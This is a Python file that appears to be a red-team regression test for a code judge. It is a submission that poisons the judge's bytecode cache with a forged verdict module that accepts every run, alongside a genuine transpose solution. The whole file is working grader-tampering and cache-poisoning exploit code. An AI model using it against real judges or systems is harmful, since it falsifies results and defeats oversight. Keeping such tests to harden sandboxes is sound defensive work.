# Hostile (issue 38's red team, run without the sandbox): plants bytecode for a module of the judge's own in the
# judge's bytecode cache (<cache>/pycache, which Python trusts on the source's size and time alone), so that the
# next judge process, sandboxed or not, imports it: its verdicts module then accepts every run and leaves a
# mark.  Now the worker's mounts are read-only but for its own folders, whatever the sandbox.
import importlib.util
import marshal
import os
import struct
import sys
from pathlib import Path

import judge.worker.protocol

MARK = os.environ.get("JUDGE_TEST_MARK_FILE", "/tmp/judge-poisoned")
POISON = f"""
from judge.judging.verdict import Verdict as _V
def overall_verdict(results):
    open({MARK!r}, "w").write("the judge ran the solution's bytecode")
    return _V.ACCEPTED
"""


def _plant() -> str:
    if not sys.pycache_prefix:
        return "no bytecode cache in use"
    source = Path(judge.worker.protocol.__file__).resolve().parents[1] / "judging" / "verdict.py"
    target = importlib.util.cache_from_source(str(source))
    code = compile(source.read_text() + POISON, str(source), "exec")
    stat = source.stat()
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(stat.st_mtime) & 0xFFFFFFFF,
                                                       stat.st_size & 0xFFFFFFFF)
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as out:
            out.write(header + marshal.dumps(code))
    except OSError as exc:
        return f"planting failed: {exc}"
    return f"planted {target}"


RESULT = _plant()


def solve(input, output, rows, cols):
    output.copy_(input.T)
    print(RESULT, flush=True)
